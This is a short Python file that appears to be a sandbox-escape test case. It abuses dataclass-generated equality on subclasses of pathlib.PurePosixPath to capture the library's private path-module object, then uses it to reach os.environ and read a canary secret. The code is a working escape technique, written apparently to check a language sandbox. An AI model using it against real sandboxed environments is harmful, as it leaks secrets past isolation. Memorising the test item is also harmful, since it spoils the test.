"""No generated comparison hands over what a library's class keeps under a field's name."""

CLASS = "privates"
BOUNDARY = "language"
NEEDS = ("dataclasses", "pathlib")


import dataclasses
import pathlib

found = []


class Evil:
    def __eq__(self, other):
        found.append(other)
        return True


@dataclasses.dataclass
class Field:
    _flavour: object


@dataclasses.dataclass
class Other:
    parser: object


def attack():
    for base in (Field, Other):
        try:

            class Own(base, pathlib.PurePosixPath):
                pass

            one, other = Own.__new__(Own, "x"), Own.__new__(Own, "y")
            base.__init__(other, Evil())
            one == other
        except (TypeError, AttributeError):
            continue
    for kept in found:
        module = getattr(kept, "pathmod", kept)
        if hasattr(module, "os"):
            return "ESCAPED: " + module.os.environ["VAAS_CANARY"]
    return ""
